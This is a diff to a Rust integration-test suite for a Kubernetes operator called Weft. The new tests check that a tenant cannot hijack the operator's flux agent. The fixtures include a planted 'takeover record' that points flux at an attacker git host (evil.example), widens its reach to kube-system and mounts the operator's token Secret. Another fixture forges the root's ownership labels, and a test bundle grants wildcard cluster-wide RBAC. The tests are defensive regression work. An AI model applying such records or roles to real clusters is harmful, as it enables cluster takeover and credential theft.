@@ -12,7 +12,13 @@
 //!   first one's agents (an error naming both);
 //! - a bundle whose role grants more than its agent needs is refused before anything is applied;
 //! - a rolled-back bundle leaves none of its objects behind;
-//! - a channel's bundle URLs pass `--allowed-channels`: no `file://` read, no other port.
+//! - a channel's bundle URLs pass `--allowed-channels`: no `file://` read, no other port;
+//! - (issue 48) a takeover record planted in the WeaveCloud's namespace changes nothing of the
+//!   operator's flux; a WeaveCloud or ArmadaChart applied with the root's label and
+//!   `--field-manager=weft` gets no finalizer, no reconcile and no metric series.
+//!
+//! Every tenant waits until the authorizer, asked as the tenant, says its grants are live
+//! (tests/support/rbac.rs), so that a RoleBinding still on its way is never a 403.
 
 #[path = "support/channel.rs"]
 mod channel_fixtures;
@@ -34,6 +40,7 @@ use channel_fixtures::{broken_bundle_files, bundle_files, ChannelServer, Publish
 use support::cluster::TestNamespace;
 use support::daemon::{Daemon, DaemonOptions};
 use support::git_servers::{GitDaemon, RepoHost, WorkTree};
+use support::rbac::{client_as, wait_until_granted, Access};
 use support::wait::wait_for;
 use weft::api::WeaveCloud;
 use weft::daemon::namespaces::WatchNamespaces;
@@ -50,50 +57,68 @@ const DEPLOY_KEY: &str = "flux-git-deploy";
 /// Tests that put launcher objects into kube-system (fixed names) take turns.
 static KUBE_SYSTEM_TURN: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
 
-/// A client that acts as user `user` (impersonation, as `kubectl --as=user`).
-async fn client_as(user: &str) -> Client {
-    let c = support::cluster::cluster();
-    let kubeconfig = kube::config::Kubeconfig::read_from(c.kubeconfig_path()).expect("kubeconfig");
-    let options = kube::config::KubeConfigOptions {
-        context: c.context().map(str::to_string),
-        ..Default::default()
-    };
-    let mut config = kube::Config::from_custom_kubeconfig(kubeconfig, &options)
-        .await
-        .expect("config");
-    config.headers.push((
-        http::HeaderName::from_static("impersonate-user"),
-        http::HeaderValue::from_str(user).expect("a user name"),
-    ));
-    Client::try_from(config).expect("client")
+/// The rules of a tenant who may create WeaveClouds and Secrets in their namespace.
+fn weavecloud_tenant_rules() -> serde_json::Value {
+    json!([
+        {"apiGroups": ["cloud.weave.works"], "resources": ["weaveclouds"], "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"]},
+        {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "create"]},
+    ])
 }
 
 /// The tenant of `ns`: may create WeaveClouds and Secrets there, and nothing else anywhere.
 async fn tenant_of(ns: &TestNamespace) -> Client {
-    let user = format!("tenant-{}", ns.name());
+    tenant_with(ns.name(), &ns.client(), weavecloud_tenant_rules()).await
+}
+
+/// User `tenant-<namespace>`, given `rules` in `namespace` (a Role and its RoleBinding, created
+/// with `admin`) and nothing else anywhere; returned once the authorizer, asked as the tenant,
+/// grants each rule's first verb (support::rbac).
+async fn tenant_with(namespace: &str, admin: &Client, rules: serde_json::Value) -> Client {
+    let user = format!("tenant-{namespace}");
     let role: Role = serde_json::from_value(json!({
-        "metadata": {"name": "weavecloud-tenant"},
-        "rules": [
-            {"apiGroups": ["cloud.weave.works"], "resources": ["weaveclouds"], "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"]},
-            {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "create"]},
-        ]
+        "metadata": {"name": "tenant"},
+        "rules": rules,
     }))
     .unwrap();
-    ns.api::<Role>()
+    Api::<Role>::namespaced(admin.clone(), namespace)
         .create(&PostParams::default(), &role)
         .await
         .expect("tenant Role");
     let binding: RoleBinding = serde_json::from_value(json!({
-        "metadata": {"name": "weavecloud-tenant"},
-        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "weavecloud-tenant"},
+        "metadata": {"name": "tenant"},
+        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "tenant"},
         "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}],
     }))
     .unwrap();
-    ns.api::<RoleBinding>()
+    Api::<RoleBinding>::namespaced(admin.clone(), namespace)
         .create(&PostParams::default(), &binding)
         .await
         .expect("tenant RoleBinding");
     let tenant = client_as(&user).await;
+    let granted: Vec<Access> = rules
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|r| {
+            let group = r["apiGroups"][0].as_str().unwrap_or_default().to_string();
+            let verb = r["verbs"][0].as_str().unwrap_or_default().to_string();
+            r["resources"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(move |res| {
+                    let res = res.as_str().unwrap();
+                    let resource = if group.is_empty() {
+                        res.to_string()
+                    } else {
+                        format!("{res}.{group}")
+                    };
+                    Access::new(&verb, &resource, Some(namespace))
+                })
+                .collect::<Vec<_>>()
+        })
+        .collect();
+    wait_until_granted(&tenant, &user, &granted).await;
     // The tenant really is limited to its namespace.
     let elsewhere: Api<Secret> = Api::namespaced(tenant.clone(), KUBE_SYSTEM);
     assert!(
@@ -286,6 +311,350 @@ async fn a_tenant_weavecloud_is_not_reconciled_and_says_why() {
             .await;
     }
     ns.delete().await;
+}
+
+/// A config repository holding `files` (path, text), served on loopback.
+fn config_repo_with(files: &[(&str, String)]) -> (RepoHost, GitDaemon, String) {
+    let host = RepoHost::new();
+    let bare = host.create("config.git");
+    let server = GitDaemon::start(&host);
+    let work = WorkTree::new(&bare.display().to_string());
+    for (path, text) in files {
+        work.write(path, text.clone());
+    }
+    work.commit("the operator's config");
+    work.push();
+    let url = server.url("config.git");
+    (host, server, url)
+}
+
+/// `GET /metrics` of `d`.
+async fn metrics(d: &Daemon) -> String {
+    reqwest::get(format!("{}/metrics", d.base()))
+        .await
+        .expect("GET /metrics")
+        .text()
+        .await
+        .expect("metrics body")
+}
+
+/// Issue 48 item 1: a user who may only create ConfigMaps in the namespace of the operator's
+/// WeaveCloud plants a takeover record there, as an earlier Weft wrote it (its name, its two
+/// labels): flux's git URL, `--k8s-allow-namespace`, `--git-readonly` and a Secret volume. The
+/// operator's flux, which holds every right in the cluster, runs with none of it: records are
+/// read only from Weft's namespace, where the tenant may write nothing. The WeaveCloud's status
+/// says the planted ConfigMap is not read.
+#[tokio::test]
+async fn a_planted_takeover_record_changes_nothing_of_the_operator_s_flux() {
+    let weft_ns = TestNamespace::new("attack-record").await;
+    let admin = weft_ns.client();
+    support::cluster::install_crds(&admin).await;
+    let agents = TestNamespace::new("attack-record-wc").await;
+    let n = agents.name().to_string();
+    let token: Secret = serde_json::from_value(json!({
+        "metadata": {"name": "weave-cloud-token"},
+        "stringData": {"token": "operator-token"},
+    }))
+    .unwrap();
+    agents
+        .api::<Secret>()
+        .create(&PostParams::default(), &token)
+        .await
+        .expect("the operator's token Secret");
+    let tenant = tenant_with(
+        &n,
+        &admin,
+        json!([{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["create", "get"]}]),
+    )
+    .await;
+    let planted_record = json!({
+        "fluxArgs": [
+            "--git-url=ssh://git@evil.example/attacker/cluster.git",
+            "--k8s-allow-namespace=kube-system",
+            "--git-readonly=false",
+        ],
+        "volumes": [{"name": "planted", "secret": {"secretName": "weave-cloud-token"}}],
+        "volumeMounts": [{"name": "planted", "mountPath": "/planted"}],
+    });
+    let planted = |namespace: &str, name: &str| -> k8s_openapi::api::core::v1::ConfigMap {
+        serde_json::from_value(json!({
+            "metadata": {"name": name, "namespace": namespace, "labels": {
+                "app.kubernetes.io/managed-by": "weft",
+                "weft.io/takeover-record-of": "weave-cloud",
+            }},
+            "data": {"record.json": planted_record.to_string()},
+        }))
+        .unwrap()
+    };
+    Api::<k8s_openapi::api::core::v1::ConfigMap>::namespaced(tenant.clone(), &n)
+        .create(
+            &PostParams::default(),
+            &planted(&n, "weft-takeover-weave-cloud"),
+        )
+        .await
+        .expect("the tenant plants a record in the WeaveCloud's namespace");
+    // Where records are read from now, the tenant may write nothing.
+    let in_weft_ns =
+        Api::<k8s_openapi::api::core::v1::ConfigMap>::namespaced(tenant.clone(), weft_ns.name())
+            .create(
+                &PostParams::default(),
+                &planted(weft_ns.name(), &format!("weft-takeover-{n}.weave-cloud")),
+            )
+            .await;
+    assert!(
+        matches!(&in_weft_ns, Err(kube::Error::Api(e)) if e.code == 403),
+        "the tenant may not write in Weft's namespace: {in_weft_ns:?}"
+    );
+
+    // The operator's WeaveCloud, applied by the root; flux's git settings left unset, so a
+    // record's would be used.
+    let wc = format!(
+        "apiVersion: cloud.weave.works/v1beta1\nkind: WeaveCloud\nmetadata: {{name: weave-cloud, namespace: {n}}}\n\
+         spec:\n  general: {{environment: generic, autoUpdate: false, tokenSecretRef: {{name: weave-cloud-token, key: token}}}}\n\
+         \x20 scope: {{disable: true}}\n  prometheus: {{disable: true}}\n"
+    );
+    let (_host, _server, url) = config_repo_with(&[("weave/weave-cloud.yaml", wc)]);
+    let d = start_daemon(&url, weft_ns.name(), Vec::new());
+    let deployments: Api<Deployment> = agents.api();
+    let flux = wait_for(
+        "the operator's flux agent is applied",
+        Duration::from_secs(120),
+        &|| d.logs(),
+        async || deployments.get_opt(FLUX).await.ok().flatten(),
+    )
+    .await;
+    let pod = flux.spec.unwrap().template.spec.unwrap();
+    let args = pod.containers[0].args.clone().unwrap_or_default();
+    for planted_flag in ["evil.example", "--k8s-allow-namespace", "--git-readonly"] {
+        assert!(
+            !args.iter().any(|a| a.contains(planted_flag)),
+            "the planted record's {planted_flag} reached the operator's flux: {args:?}"
+        );
+    }
+    let volumes = pod.volumes.unwrap_or_default();
+    assert!(
+        !volumes.iter().any(|v| v.name == "planted"),
+        "the planted Secret volume reached the operator's flux: {volumes:?}"
+    );
+    let wcs: Api<WeaveCloud> = agents.api();
+    let dropped = wait_for(
+        "status.flux.dropped says the planted record is not read",
+        Duration::from_secs(60),
+        &|| d.logs(),
+        async || {
+            let dropped = wcs.get("weave-cloud").await.ok()?.status?.flux?.dropped;
+            dropped.into_iter().find(|x| {
+                x.contains(&format!(
+                    "takeover record {n}/weft-takeover-weave-cloud (not read"
+                ))
+            })
+        },
+    )
+    .await;
+    eprintln!("status.flux.dropped: {dropped}");
+    drop(d);
+    let _ = wcs
+        .patch(
+            "weave-cloud",
+            &PatchParams::default(),
+            &Patch::Merge(json!({"metadata": {"finalizers": null}})),
+        )
+        .await;
+    remove_flux_rbac(&admin, &n).await;
+    agents.delete().await;
+    weft_ns.delete().await;
+}
+
+/// The cluster-scoped RBAC Weft renders for a flux in `namespace`.
+async fn remove_flux_rbac(admin: &Client, namespace: &str) {
+    let name = format!("weave-flux:{namespace}");
+    let _ = Api::<ClusterRoleBinding>::all(admin.clone())
+        .delete(&name, &DeleteParams::default())
+        .await;
+    let _ = Api::<ClusterRole>::all(admin.clone())
+        .delete(&name, &DeleteParams::default())
+        .await;
+}
+
+/// Issue 48 item 2: a tenant applies a WeaveCloud and ArmadaCharts exactly as the root's apply
+/// writes them — the root's owner label, `kubectl apply --server-side --field-manager=weft` —
+/// in the tenant's own namespace. A field manager's name is not an identity: none of them is in
+/// the root's inventory (in Weft's namespace), so none gets a finalizer, a reconcile (no agents,
+/// no pass) or a metric series; the WeaveCloud says why.
+#[tokio::test]
+async fn a_weavecloud_and_charts_forged_with_the_root_s_field_manager_are_not_the_root_s() {
+    let weft_ns = TestNamespace::new("attack-forged").await;
+    let admin = weft_ns.client();
+    support::cluster::install_crds(&admin).await;
+    let tenant_ns = TestNamespace::new("attack-forged-t").await;
+    let t = tenant_ns.name().to_string();
+    let tenant = tenant_with(
+        &t,
+        &admin,
+        json!([
+            {"apiGroups": ["cloud.weave.works"], "resources": ["weaveclouds"], "verbs": ["patch", "create", "get"]},
+            {"apiGroups": ["armada.airshipit.org"], "resources": ["armadacharts"], "verbs": ["patch", "create", "get"]},
+            {"apiGroups": [""], "resources": ["secrets"], "verbs": ["create", "get"]},
+        ]),
+    )
+    .await;
+    let root = Owner::root(weft_ns.name(), weft_ns.name());
+    let labels = json!({"app.kubernetes.io/managed-by": "weft", "weft.io/owner": root.id().0});
+    let as_weft = PatchParams::apply("weft").force();
+    let token: Secret = serde_json::from_value(json!({
+        "metadata": {"name": "weave-cloud-token"},
+        "stringData": {"token": "tenant-token"},
+    }))
+    .unwrap();
+    Api::<Secret>::namespaced(tenant.clone(), &t)
+        .create(&PostParams::default(), &token)
+        .await
+        .expect("the tenant's token Secret");
+    let wc = json!({
+        "apiVersion": "cloud.weave.works/v1beta1", "kind": "WeaveCloud",
+        "metadata": {"name": "weave-cloud", "namespace": t, "labels": labels,
+                     "annotations": {"weft.io/owner-ref": format!("Root/{}", weft_ns.name())}},
+        "spec": {"general": {"environment": "generic", "autoUpdate": false,
+                             "tokenSecretRef": {"name": "weave-cloud-token", "key": "token"}},
+                 "scope": {"disable": true}, "prometheus": {"disable": true}},
+    });
+    let wcs: Api<WeaveCloud> = Api::namespaced(tenant.clone(), &t);
+    wcs.patch("weave-cloud", &as_weft, &Patch::Apply(&wc))
+        .await
+        .expect("the tenant applies a WeaveCloud as manager weft");
+    let chart_api = kube::api::ApiResource::from_gvk(&kube::api::GroupVersionKind::gvk(
+        "armada.airshipit.org",
+        "v1alpha1",
+        "ArmadaChart",
+    ));
+    let charts: Api<kube::api::DynamicObject> =
+        Api::namespaced_with(tenant.clone(), &t, &chart_api);
+    let chart_names: Vec<String> = (0..3).map(|i| format!("forged-{i}")).collect();
+    for name in &chart_names {
+        let chart = json!({
+            "apiVersion": "armada.airshipit.org/v1alpha1", "kind": "ArmadaChart",
+            "metadata": {"name": name, "namespace": t, "labels": labels},
+            "spec": {"chart_name": name, "release": name, "namespace": t,
+                     "source": {"type": "local", "location": "charts/app"}},
+        });
+        charts
+            .patch(name, &as_weft, &Patch::Apply(&chart))
+            .await
+            .expect("the tenant applies an ArmadaChart as manager weft");
+    }
+    // The managedFields are the root's apply's, to the letter.
+    let forged = wcs.get("weave-cloud").await.unwrap();
+    assert!(forged
+        .metadata
+        .managed_fields
+        .iter()
+        .flatten()
+        .any(|m| m.manager.as_deref() == Some("weft") && m.operation.as_deref() == Some("Apply")));
+
+    let (_host, _server, url) = config_repo(weft_ns.name());
+    let d = start_daemon(&url, weft_ns.name(), Vec::new());
+    let has_finalizer =
+        |meta: &kube::api::ObjectMeta, f: &str| meta.finalizers.iter().flatten().any(|x| x == f);
+    // The WeaveCloud is decided on: it says why not, or (before the change) got the finalizer.
+    let wc = wait_for(
+        "the forged WeaveCloud is decided on",
+        Duration::from_secs(90),
+        &|| d.logs(),
+        async || {
+            let wc = wcs.get("weave-cloud").await.ok()?;
+            (ready(&wc).is_some() || has_finalizer(&wc.metadata, "weft.io/agents")).then_some(wc)
+        },
+    )
+    .await;
+    assert!(
+        !has_finalizer(&wc.metadata, "weft.io/agents"),
+        "the forged WeaveCloud got Weft's finalizer\n{}",
+        d.logs()
+    );
+    let (status, reason, message) = ready(&wc).unwrap();
+    assert_eq!(
+        (status.as_str(), reason.as_str()),
+        ("False", "NotReconciled"),
+        "{message}"
+    );
+    eprintln!("forged WeaveCloud: {message}");
+    // Each chart is decided on: ignored (said in the daemon's debug log), or given the finalizer.
+    for name in &chart_names {
+        let shown = format!("{t}/{name}");
+        let chart = wait_for(
+            &format!("the forged chart {name} is decided on"),
+            Duration::from_secs(90),
+            &|| d.logs(),
+            async || {
+                let chart = charts.get(name).await.ok()?;
+                let ignored = d.logs().lines().any(|l| {
+                    l.contains("not applied by this installation's root") && l.contains(&shown)
+                });
+                (ignored || has_finalizer(&chart.metadata, "weft.io/armada-chart")).then_some(chart)
+            },
+        )
+        .await;
+        assert!(
+            !has_finalizer(&chart.metadata, "weft.io/armada-chart"),
+            "the forged chart {name} got Weft's finalizer"
+        );
+    }
+    let scraped = metrics(&d).await;
+    let series: Vec<&str> = scraped
+        .lines()
+        .filter(|l| l.contains(&format!("namespace=\"{t}\"")))
+        .collect();
+    assert!(
+        series.is_empty(),
+        "metric series of resources that are not Weft's: {series:#?}"
+    );
+    assert!(
+        ns_deployments(&admin, &t).await.is_empty(),
+        "no agent for a forged WeaveCloud"
+    );
+    assert!(
+        Api::<ClusterRole>::all(admin.clone())
+            .get_opt(&format!("weave-flux:{t}"))
+            .await
+            .unwrap()
+            .is_none(),
+        "no flux role for a forged WeaveCloud"
+    );
+    drop(d);
+    let admin_wcs: Api<WeaveCloud> = Api::namespaced(admin.clone(), &t);
+    let _ = admin_wcs
+        .patch(
+            "weave-cloud",
+            &PatchParams::default(),
+            &Patch::Merge(json!({"metadata": {"finalizers": null}})),
+        )
+        .await;
+    let admin_charts: Api<kube::api::DynamicObject> =
+        Api::namespaced_with(admin.clone(), &t, &chart_api);
+    for name in &chart_names {
+        let _ = admin_charts
+            .patch(
+                name,
+                &PatchParams::default(),
+                &Patch::Merge(json!({"metadata": {"finalizers": null}})),
+            )
+            .await;
+    }
+    remove_flux_rbac(&admin, &t).await;
+    tenant_ns.delete().await;
+    weft_ns.delete().await;
+}
+
+/// The names of the Deployments in `namespace`.
+async fn ns_deployments(admin: &Client, namespace: &str) -> Vec<String> {
+    Api::<Deployment>::namespaced(admin.clone(), namespace)
+        .list(&Default::default())
+        .await
+        .unwrap()
+        .items
+        .into_iter()
+        .map(|d| d.name_any())
+        .collect()
 }
 
 /// A launcher flux agent in kube-system, labelled as the launcher labelled it.
@@ -592,11 +961,11 @@ async fn a_bundle_role_beyond_its_agent_s_needs_is_refused_before_anything_is_ap
 async fn a_rolled_back_bundle_leaves_none_of_its_objects_behind() {
     let server = ChannelServer::start();
     let mut files = broken_bundle_files("1.2.0");
-    // Within flux's allow-list (flux may hold anything), and new in this bundle.
+    // Within flux's allow-list (the built-in flux role's rules, exactly), and new in this bundle.
     append(
         &mut files,
         "flux/rbac.yaml",
-        "---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: weave-flux-extra}\nrules:\n  - apiGroups: ['']\n    resources: [secrets]\n    verbs: [get, list]\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: weave-flux-extra}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: weave-flux-extra}\nsubjects: [{kind: ServiceAccount, name: weave-flux}]\n",
+        "---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: weave-flux-extra}\nrules:\n  - apiGroups: ['*']\n    resources: ['*']\n    verbs: ['*']\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: weave-flux-extra}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: weave-flux-extra}\nsubjects: [{kind: ServiceAccount, name: weave-flux}]\n",
     );
     server.publish(&[Published::new("1.2.0", &files)]);
     let (ns, wc) = channel_weavecloud("attack-rollback", &server.channel_url()).await;
